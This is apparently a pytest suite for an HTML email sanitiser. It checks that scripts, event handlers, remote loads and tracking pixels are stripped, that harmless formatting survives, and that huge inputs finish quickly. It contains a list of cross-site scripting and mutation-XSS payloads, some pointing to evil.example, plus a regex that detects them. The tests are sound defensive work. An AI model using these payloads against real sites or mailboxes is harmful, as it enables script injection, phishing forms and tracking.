"""HTML of strangers: nothing in it runs, loads or sends, and what people meant to say is left."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.mails.cleaning import LONGEST, clean_mail, data_urls, picture_type

PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 20
LOGO = {"logo": "data:image/png;base64,AAAA"}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script><image href='https://x.example/a.png'/></svg>",
    "svg with a handler": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "a handler": "<img src=x onerror=alert(1)><p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "meta refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'><a href='login'>x</a>",
    "form": "<form action='https://evil.example'><input name=password><button formaction='//evil.example'>Go</button></form>",
    "style element": "<style>@import url(https://evil.example/x.css);p{background:url(https://evil.example/p)}</style>",
    "css url": "<p style='background:url(https://evil.example/p);background-image:u\\72l(https://evil.example)'>x</p>",
    "css expression": "<p style='width:expression(alert(1));behavior:url(x.htc)'>x</p>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "javascript": "<a href='javascript:alert(1)'>x</a><a href=' java&#10;script:alert(1)'>y</a><a href='JaVaScRiPt:alert(1)'>z</a>",
    "data document": "<a href='data:text/html,<script>alert(1)</script>'>x</a><iframe src='data:text/html,x'></iframe>",
    "data svg": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "objects": "<object data=x.swf></object><embed src=x.swf><applet code=x></applet><video src=https://evil.example/v></video>",
    "frames": "<iframe srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=x></frameset>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by template": "<template><img src=x onerror=alert(1)></template>",
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "comment": "<!--[if mso]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "srcset": "<img srcset='https://evil.example/a.png 1x'><picture><source srcset='https://evil.example/b.png'></picture>",
    "background attribute": "<table background='https://evil.example/b.png'><tr><td background=https://evil.example/c.png>x",
    "ping": "<a href='https://a.example' ping='https://evil.example'>x</a>",
    "slashes": "<img/src='x'/onerror=alert(1)>",
}  # fmt: skip
BAD = re.compile(
    r"<\s*(?:script|style|svg|math|iframe|frame|object|embed|applet|form|input|button|base|meta|link|video|template)"
    r"|\son\w+\s*=|javascript:|data:text|data:image/svg|srcset|srcdoc|expression\(|url\(|evil\.example",
    re.IGNORECASE,
)


def body_of(page: str) -> str:
    return page[page.index("<body>") + 6 : page.rindex("</body>")]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("remote", [False, True])
def test_nothing_that_runs_or_loads_is_left(name: str, remote: bool) -> None:
    body = body_of(clean_mail(HOSTILE[name], LOGO, remote=remote).html)
    assert not BAD.search(re.sub(r'(?:title|alt)="[^"]*"', "", body)), body


@pytest.mark.parametrize("name", HOSTILE)
def test_cleaning_what_was_cleaned_changes_nothing(name: str) -> None:
    once = body_of(clean_mail(HOSTILE[name], LOGO).html)
    assert sorted(body_of(clean_mail(once, LOGO).html)) == sorted(once)  # attributes may change places


def test_words_tables_colours_and_links_stay() -> None:
    body = body_of(
        clean_mail(
            "<h2 style='color:#7a5200;position:fixed'>Hi</h2><table width=600 bgcolor=red><tr><td colspan=2>x"
            "<a href='https://a.example/x?y=1&amp;z=2'>go</a><a href='mailto:a@b.example'>write</a>",
            {},
        ).html
    )
    assert '<h2 style="color:#7a5200">Hi</h2>' in body
    assert '<table width="600" bgcolor="red">' in body
    assert 'href="https://a.example/x?y=1&amp;z=2"' in body
    assert body.count('target="_blank"') == 2
    assert body.count('rel="noopener noreferrer nofollow"') == 2


def test_pictures_of_the_mail_are_shown_and_those_of_servers_only_when_asked_for() -> None:
    source = "<img src='cid:logo'><img src='cid:<none>'><img src='https://pixel.example/o.gif'><img src=HTTP://p.example/q>"
    held = clean_mail(source, LOGO)
    assert held.held_back == 2
    assert body_of(held.html).count("src=") == 1
    assert 'src="data:image/png;base64,AAAA"' in held.html
    shown = clean_mail(source, LOGO, remote=True)
    assert shown.held_back == 0
    assert 'src="https://pixel.example/o.gif"' in shown.html


def test_pictures_are_known_by_their_bytes() -> None:
    assert picture_type(PNG) == "image/png"
    assert picture_type(b"\xff\xd8\xff\xe0") == "image/jpeg"
    assert picture_type(b"RIFF0000WEBPVP8 ") == "image/webp"
    assert picture_type(b"<svg onload=alert(1)>") is None
    urls = data_urls({"a": PNG, "b": b"<svg/>", "c": PNG + b"0" * 8_000_000})
    assert list(urls) == ["a"]


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 200_000,
        "<font color=red>" * 1_900 + "</p>" * 60_000,
        "&" * 1_000_000,
        "&a;" * 99_000,
        "<" * 500_000,
        "<a b='" * 150_000,
        "<!--" * 250_000,
        "<p style='" + "color:red;" * 90_000 + "'>",
        "x" * 3 * LONGEST,
    ],
)
def test_no_mail_takes_long(source: str) -> None:
    began = time.process_time()
    clean_mail(source, LOGO)
    assert time.process_time() - began < 3


def test_what_is_tangled_is_shown_as_its_words() -> None:
    page = clean_mail("<div>" * 5_000 + "Hello &amp; <b>you</b><script>alert(1)</script>", {}).html
    assert "Hello &amp;  you" in page or "Hello &amp; you" in page
    assert "<script" not in page


@given(
    st.lists(
        st.sampled_from([*HOSTILE.values(), "<p>", "</p>", "'", '"', ">", "<", "&lt;", "x", "<b>"]),
        max_size=8,
    )
)
def test_no_mixture_leaves_anything_that_runs(parts: list[str]) -> None:
    body = body_of(clean_mail("".join(parts), LOGO).html)
    bare = re.sub(r'(?:title|alt)="[^"]*"', "", body)
    assert not re.search(
        r"<\s*(?:script|style|svg|iframe|form|object|base|meta)|<[^>]*\son\w+\s*=", bare, re.I
    ), body


def test_a_picture_named_again_and_again_fills_no_memory() -> None:
    picture = "data:image/png;base64," + "A" * 4_000_000
    cleaned = clean_mail('<img src="cid:a">' * 20_000, {"a": picture})
    assert len(cleaned.html) < 26_000_000
    assert cleaned.html.count(picture[:40]) == 5


@pytest.mark.parametrize("style", ["background:src('http://x.example/a')", "background:u/**/rl(//x.example)"])
def test_styles_that_load_by_another_name_are_dropped(style: str) -> None:
    assert "x.example" not in clean_mail(f'<p style="{style}">x</p>', {}).html
